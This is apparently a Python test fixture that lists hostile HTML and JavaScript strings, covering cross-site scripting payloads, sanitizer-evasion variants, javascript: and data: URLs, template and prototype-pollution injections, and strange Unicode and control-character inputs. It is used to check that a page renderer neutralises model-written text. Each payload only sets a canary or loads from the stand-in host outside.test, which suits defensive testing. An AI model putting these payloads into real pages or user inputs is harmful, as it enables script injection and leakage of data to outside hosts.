"""Texts that a model might write to make a page do something.

Each tries to set `window.canary` or to fetch something from outside.test.
"""

from __future__ import annotations

__all__ = ["HOSTILE"]

_RUN = "window.canary=1"
_OUT = "http://outside.test"
_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle"),
    *("onpointerenter", "onbeforetoggle", "onscroll"),
)

_SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src={_OUT}/a.js></script>",
    f"<script type=module>import '{_OUT}/b.js'</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</pre><script>{_RUN}</script>",
    f"</svg><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"'\"><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='{_OUT}/c.js'/></svg>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{_RUN[7:]}</script>'></iframe>",
    f"<script\x00>{_RUN}</script>",
    f"<\x00script>{_RUN}</script>",
    f"<script/x>{_RUN}</script>",
    f"<script\n>{_RUN}</script\n>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
]
_HANDLERS = [f"<img src=x {event}={_RUN}>" for event in _EVENTS] + [
    f'" {event}="{_RUN}" x="' for event in _EVENTS
]
_ELEMENTS = [
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<a href='javascript:{_RUN}' autofocus>x</a>",
    f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
    f"<base href='{_OUT}/'>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<link rel=stylesheet href={_OUT}/a.css>",
    f"<link rel=prefetch href={_OUT}/p>",
    f"<style>@import '{_OUT}/b.css'</style>",
    f"<style>*{{background:url({_OUT}/c.png)}}</style>",
    f"<div style='background:url({_OUT}/d.png)'>",
    f"<img src={_OUT}/e.png>",
    f"<img srcset='{_OUT}/f.png 1x'>",
    f"<picture><source srcset={_OUT}/g.png><img></picture>",
    f"<video poster={_OUT}/h.png>",
    f"<svg><image href={_OUT}/i.png></svg>",
    f"<svg><use href='{_OUT}/j.svg#x'></svg>",
    f"<portal src={_OUT}>",
    f"<!--[if IE]><script>{_RUN}</script><![endif]-->",
    f"<?xml-stylesheet href='{_OUT}/k.xsl'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_OUT}/l'>]>",
]
_ADDRESSES = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\nscript:{_RUN}",
    f"javascript://%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"{_OUT}/plain-link",
    f"[link](javascript:{_RUN})",
    f"![image]({_OUT}/m.png)",
    f"url({_OUT}/n.png)",
]
_TEMPLATES = [
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"#{{{_RUN}}}",
    f"{{% raw %}}<script>{_RUN}</script>{{% endraw %}}",
    f"`);{_RUN};//`",
    f"');{_RUN};//",
    f'");{_RUN};//',
    f"\\');{_RUN};//",
    f'{{"__proto__": {{"innerHTML": "<img src=x onerror={_RUN}>"}}}}',
]
_STRANGE = [
    "\u202egnirts desrever\u202c <script>",
    "\u2066\u2067isolated\u2069",
    "\x00\x01\x02\x1b[31mred\x1b[0m\x7f\x9b",
    "NUL\x00in the middle",
    "\ud800 half a character \udfff",
    "\ufeffmark \u2028 line \u2029 paragraph",
    "\u200b\u200c\u200d\u2060 nothing to see",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0327\u0321l\u0310g\u0321o\u0336" * 20,
    "\U000e0041\U000e0042 tags",
    "A" * 200_000,
    "<" * 5_000,
    "&" * 5_000,
    "\n" * 500,
    "\t\r\n \r mixed \x0b\x0c",
    "مرحبا <b>שלום</b> 你好",
    "👩‍👩‍👧‍👦" * 50,
]
HOSTILE = [*_SCRIPTS, *_HANDLERS, *_ELEMENTS, *_ADDRESSES, *_TEMPLATES, *_STRANGE]
